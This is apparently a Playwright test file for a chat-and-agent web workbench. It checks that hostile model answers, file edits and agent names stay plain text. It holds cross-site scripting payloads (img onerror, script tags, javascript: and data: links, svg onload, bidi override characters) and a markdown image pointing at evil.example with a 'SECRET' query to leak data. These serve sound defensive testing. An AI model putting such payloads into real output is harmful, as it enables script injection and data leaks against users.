"""Whatever a model, a file or a name says, it stays text: nothing runs, nothing is fetched, only plain web links can be clicked."""

from playwright.async_api import expect

from tests.support.browser import Workbench, write
from tests.support.fake_ollama import FakeOllama, call, text
from tests.support.gateway import Gateway

UNFIT = {
    "": "A name needs at least one visible character.",
    "\u3000\u200b": "A name needs at least one visible character.",
    "a\u202eb": "Line breaks and control characters cannot be part of a name.",
    "x" * 121: "At most 120 characters.",
}
IMAGE = '<img src=x onerror="window.hacked=1">'
HOSTILE = "\n\n".join([
    "[a](javascript:window.hacked=1) [b](JaVaScRiPt&#58;window.hacked=1) [c](data:text/html,<script>window.hacked=1</script>)",
    "[d](//evil.example/x) [e](http://user:pw@evil.example/) [good](https://example.org/page)",
    "![x](https://evil.example/p.png?q=SECRET)",
    f"A bare {IMAGE} and <script>window.hacked=1</script>",
    f'```"><img src=x onerror=window.hacked=1>\n{IMAGE}\n```',
    "| a | b |\n|---|---|\n| <svg onload=window.hacked=1> | `<b>` |",
    "\u202eevil\u202c",
    ">" * 200 + " deep",
    "```\nunclosed " + IMAGE,
])


async def test_a_hostile_answer_does_nothing(gateway: Gateway, fake: FakeOllama) -> None:
    fake.script(text(HOSTILE, size=400))
    async with Workbench.open(gateway) as bench:
        await bench.sign_in()
        await bench.send(f"Show {IMAGE}")
        answer = await bench.answered(1)
        await expect(answer.get_by_text("A bare <img")).to_be_visible()
        links = await answer.locator("a").evaluate_all("links => links.map(link => [link.href, link.rel, link.target])")
        assert links == [
            ["https://example.org/page", "noopener noreferrer", "_blank"],
            ["https://evil.example/p.png?q=SECRET", "noopener noreferrer", "_blank"],
        ]
        assert await bench.page.locator("#talk img, #talk svg:not(.icon), #talk script, #talk iframe").count() == 0
        assert await bench.page.evaluate("window.hacked") is None
        assert bench.faults == []


async def test_thousands_of_open_brackets_leave_the_page_usable(gateway: Gateway, fake: FakeOllama) -> None:
    fake.script(text("".join(f"[{number:x}" for number in range(2500)) + " end", size=1000))
    async with Workbench.open(gateway) as bench:
        await bench.sign_in()
        await bench.send("brackets")
        await expect(await bench.answered(1)).to_contain_text("end")
        await bench.box.fill("still here")
        await expect(bench.box).to_have_value("still here")
        assert not await bench.scrolls_sideways()


async def test_hostile_names_and_previews_stay_text(gateway: Gateway, fake: FakeOllama) -> None:
    write(gateway, "a.html", "teh\n")
    fake.script(call("file_read_text", path="a.html"), call("file_edit", path="a.html", old="teh", new=IMAGE), text("done"))
    async with Workbench.open(gateway) as bench:
        await bench.sign_in()
        await bench.send("edit")
        await expect(bench.page.locator(".diff-line.add")).to_contain_text("<img src=x")
        await bench.approve.click()
        await bench.answered(1)
        await bench.page.locator(".agent-button").click()
        await bench.page.get_by_role("button", name="New Agent…").click()
        await bench.page.locator("dialog input").fill(IMAGE)
        await bench.page.keyboard.press("Enter")
        await expect(bench.page.locator(".agent-button .agent-name")).to_have_text(IMAGE)
        assert await bench.page.evaluate("window.hacked") is None
        assert bench.faults == []


async def test_a_name_that_cannot_be_seen_or_is_endless_is_refused_with_its_reason(gateway: Gateway) -> None:
    await gateway.ok("POST", f"{gateway.agent}/sessions", {"title": "before"})
    async with Workbench.open(gateway) as bench:
        await bench.sign_in()
        await bench.show_conversation("before")
        await bench.button("actions", bench.topbar).click()
        await bench.page.get_by_role("menuitem", name="Rename…").click()
        for name, reason in UNFIT.items():
            await bench.page.locator("dialog input").fill(name)
            await bench.page.keyboard.press("Enter")
            await expect(bench.page.locator("dialog [role=alert]")).to_have_text(reason)
        await bench.page.keyboard.press("Escape")
        await expect(bench.topbar.get_by_role("heading", name="before")).to_be_visible()
